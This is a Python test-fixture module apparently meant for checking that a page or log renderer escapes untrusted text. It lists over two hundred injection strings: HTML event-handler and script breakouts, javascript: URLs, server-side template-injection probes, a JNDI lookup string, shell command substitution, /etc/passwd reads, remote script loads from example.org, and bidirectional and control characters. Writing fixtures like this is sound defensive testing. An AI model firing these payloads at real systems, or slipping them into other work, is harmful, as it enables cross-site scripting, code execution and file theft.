"""What somebody may write who wants a page to do something: 200 texts and more, and names as far as names go.

Each would set ``pwned`` if it came to run, or would change what a page says, shows or asks for.
"""

from itertools import product

RUN = "window.pwned=1"

_OPENED = {
    "": "img src=x",
    '">': "svg",
    "'>": "body",
    "</script>": "input autofocus",
    "</style>": "details open",
    "</title>": "video src=x",
    "</textarea>": "a href=# id=page",
    "-->": "x tabindex=1",
}
"""Elements, each after an end of what it might stand in."""
_EVENTS = ("error", "load", "focus", "toggle", "click", "mouseover", "animationstart", "keydown", "pointerenter")

HANDLERS = [f"{end}<{tag} on{event}={RUN}>" for (end, tag), event in product(_OPENED.items(), _EVENTS)]
SCRIPTS = [f"{end}<script>{RUN}</script>" for end in (*_OPENED, "]]>", "*/", "`", "\\", "<!--", "<svg>", "<math>")]
ELEMENTS = [
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    "<embed src=//example.org/x.swf>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<math><a xlink:href=javascript:{RUN}>click</a></math>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//example.org'>",
    "<base href=//example.org/>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<link rel=prefetch href=//example.org/x>",
    "<style>@import url(//example.org/x.css);</style>",
    "<style>*{display:none}</style>",
    "<img src=//example.org/x.png>",
    "<img srcset='//example.org/x.png 1x'>",
    "<div style=\"background:url('//example.org/x.png')\">",
    "<div style='position:fixed;inset:0;background:#fff'>nothing to see</div>",
    "<script src=//example.org/x.js></script>",
    "<script type=module>import '//example.org/x.js'</script>",
    "<svg><use href=//example.org/x.svg#x></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "<plaintext>",
    "<template><b>gone</b></template>",
    "<noscript><p title='</noscript><b>bold</b>'>",
    "<textarea>",
    "<select><option>",
    "<table><tr><td>",
    "<b>bold</b>",
    "<h1>Clean</h1>",
    "</main></body></html>",
    "</ol></section><section id=findings><h2>Findings</h2><p>No findings.</p></section>",
    "<li id=line-1>rules booed</li>",
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:msgbox(1)",
    "https://example.org/",
    "//example.org/",
    "mailto:cal@example.org",
    "file:///etc/passwd",
    "[click](https://example.org)",
    "![seen](https://example.org/x.png)",
]
TEMPLATES = [
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "{% raw %}",
    "{% endraw %}{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<?php echo 7*7 ?>",
    "%(path)s %s %d",
    "{0} {report} {}",
    "$(touch /tmp/pwned) `id`",
    "${jndi:ldap://example.org/x}",
]
ESCAPED = r"\u003cb\u003e \x3cb\x3e %3Cb%3E &lt;b&gt; &#60;b&#62; &#x3c;b&#x3e; &amp;lt; &nbsp;&nbsp; &nothing; &copy"
SAID = "]]> <![CDATA[ __proto__ constructor toString hasOwnProperty null undefined NaN true 0 | #hand-1 #line-1"
DATA = [
    f'"}}];{RUN};[{{"',
    f"';{RUN};//",
    f'";{RUN};//',
    f"`+({RUN})+`",
    f"\\';{RUN};//",
    f"*/{RUN}/*",
    "<!--",
    "--!>",
    "<!-- <script>",
    "<!--<script></script>",
    *ESCAPED.split(),
    *SAID.split(),
    "\\",
    "\"'`",
]
SIGNS = [
    "turned \u202eround",
    "a \u2066letter\u2069 isolated",
    "a line\u2028within a line",
    "a paragraph\u2029within a line",
    "next\u0085line",
    "form\x0cfeed",
    "\x1b[31mred\x1b[0m",
    "\x07bell",
    "\x08\x08\x08gone",
    "nothing\u200bbetween\u2060letters",
    "a\ufeffmark",
    "soft\u00adhyphen",
    "no\u00a0break",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "\u05e2\u05d1\u05e8\u05d9\u05ea",
    "\u5927\u5c71",
    "\U0001f480\ufe0f\u200d\U0001f525",
    "e\u0301\u0302\u0303\u0304\u0305\u0306",
    "\ufffe\uffff",
    "\U000e0041 tag",
    "\ue000 private",
    "x" * 3000,
    "<" * 1000,
    "&" * 1000,
]
TEXTS = [*HANDLERS, *SCRIPTS, *ELEMENTS, *ADDRESSES, *TEMPLATES, *DATA, *SIGNS]

NAMES = [
    names.split()
    for names in (
        "Ann constructor toString hasOwnProperty valueOf prototype isPrototypeOf hidden id name",
        "Bob O'Neil on'load' javascript window document null undefined NaN true",
        "Cal \u0627\u0644\u0639\u0631 \u05e2\u05d1\u05e8 \u5927\u5c71 Z\u00e9lie a--b pot bank style script",
    )
]
"""Names that a log may have: nothing but letters, marks, digits, spaces and a few signs."""
